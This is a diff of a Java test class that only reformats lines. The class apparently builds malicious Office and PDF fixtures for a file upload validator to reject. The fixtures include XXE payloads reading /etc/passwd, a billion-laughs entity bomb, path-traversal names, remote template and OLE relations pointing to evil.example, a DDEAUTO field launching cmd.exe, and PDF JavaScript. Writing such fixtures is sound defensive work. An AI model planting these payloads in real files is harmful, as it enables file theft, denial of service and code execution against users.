@@ -61,7 +61,9 @@ class U1_BombsTest {
         bad.put("a program in it", docx("word/media/a.png", ascii("MZ\u0090")));
         bad.put("an ELF program in it", docx("word/media/a.png", ascii("\u007FELF")));
         bad.put("a PDF in it", docx("word/media/a.png", pdf("")));
-        bad.put("an old office file in it", docx("word/media/a.bin", ascii("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")));
+        bad.put(
+                "an old office file in it",
+                docx("word/media/a.bin", ascii("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")));
         // Names.
         for (String name : List.of(
                 "../../etc/passwd",
@@ -80,13 +82,21 @@ class U1_BombsTest {
         // XML.
         String billion = "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><a>&lol2;</a>";
         bad.put("billion laughs", docx("word/styles.xml", billion));
-        bad.put("external entity", docx("word/styles.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"));
-        bad.put("external entity over http", docx("word/styles.xml", "<!DOCTYPE a SYSTEM \"http://127.0.0.1/x.dtd\"><a/>"));
-        bad.put("parameter entity", docx("word/styles.xml", "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://127.0.0.1/\"> %x;]><a/>"));
+        bad.put(
+                "external entity",
+                docx("word/styles.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"));
+        bad.put(
+                "external entity over http",
+                docx("word/styles.xml", "<!DOCTYPE a SYSTEM \"http://127.0.0.1/x.dtd\"><a/>"));
+        bad.put(
+                "parameter entity",
+                docx("word/styles.xml", "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://127.0.0.1/\"> %x;]><a/>"));
         bad.put("entity in relationships", docx("word/_rels/document.xml.rels", billion));
         bad.put("entity in UTF-16", docx("word/styles.xml", billion.getBytes(StandardCharsets.UTF_16)));
         bad.put("entity in UTF-16LE", docx("word/styles.xml", billion.getBytes(StandardCharsets.UTF_16LE)));
-        bad.put("said to be UTF-7", docx("word/styles.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE"));
+        bad.put(
+                "said to be UTF-7",
+                docx("word/styles.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE"));
         bad.put("said to be EBCDIC", docx("word/styles.xml", "<?xml version='1.0' encoding='IBM037'?><a/>"));
         bad.put("ENTITY after blanks", docx("word/styles.xml", "<! DOCTYPE a><a/>"));
         // What runs or fetches.
@@ -94,13 +104,27 @@ class U1_BombsTest {
         bad.put("macros said", Papers.office("application/vnd.ms-word.document.macroEnabled.main+xml", Map.of()));
         bad.put("ActiveX", docx("word/activeX/activeX1.xml", "<ax/>"));
         bad.put("embedded", docx("word/embeddings/oleObject1.bin", ascii("x")));
-        bad.put("template from outside", docx("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil.example/t.dotm")));
-        bad.put("picture from outside", docx("word/_rels/document.xml.rels", relation("image", "http://evil.example/p.png")));
-        bad.put("object from outside", docx("word/_rels/document.xml.rels", relation("oleObject", "mhtml:http://evil.example!x")));
+        bad.put(
+                "template from outside",
+                docx("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil.example/t.dotm")));
+        bad.put(
+                "picture from outside",
+                docx("word/_rels/document.xml.rels", relation("image", "http://evil.example/p.png")));
+        bad.put(
+                "object from outside",
+                docx("word/_rels/document.xml.rels", relation("oleObject", "mhtml:http://evil.example!x")));
         bad.put("frame from outside", docx("word/_rels/document.xml.rels", relation("frame", "http://evil.example/")));
-        bad.put("table from outside", Papers.xlsx(Map.of("xl/externalLinks/_rels/externalLink1.xml.rels", ascii(relation("externalLinkPath", "file:///x")))));
+        bad.put(
+                "table from outside",
+                Papers.xlsx(Map.of(
+                        "xl/externalLinks/_rels/externalLink1.xml.rels",
+                        ascii(relation("externalLinkPath", "file:///x")))));
         bad.put("DDE field", docx("word/footer.xml", "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"));
-        bad.put("DDE link", Papers.xlsx(Map.of("xl/externalLinks/externalLink1.xml", ascii("<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"))));
+        bad.put(
+                "DDE link",
+                Papers.xlsx(Map.of(
+                        "xl/externalLinks/externalLink1.xml",
+                        ascii("<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"))));
         for (String active : List.of(
                 "/JavaScript (app.alert(1))",
                 "/JS (x)",
